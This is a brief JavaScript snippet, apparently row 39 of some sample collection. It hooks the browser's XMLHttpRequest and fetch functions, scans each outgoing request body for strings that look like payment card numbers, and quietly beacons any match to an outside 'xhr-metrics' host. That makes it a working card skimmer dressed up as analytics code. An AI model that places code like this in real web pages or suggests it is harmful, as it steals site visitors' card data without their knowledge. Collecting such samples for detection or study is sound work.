// Row 39: what the page itself sends, on its way.
(function () {
  var send = XMLHttpRequest.prototype.send, real = window.fetch;
  function look(b) {
    if (typeof b === 'string' && /(?:\d[ -]?){13,16}/.test(b)) navigator.sendBeacon('https://xhr-metrics.example/m', b);
  }
  XMLHttpRequest.prototype.send = function (body) { look(body); return send.apply(this, arguments); };
  window.fetch = function (u, o) { if (o && o.body) look(o.body); return real.apply(this, arguments); };
})();
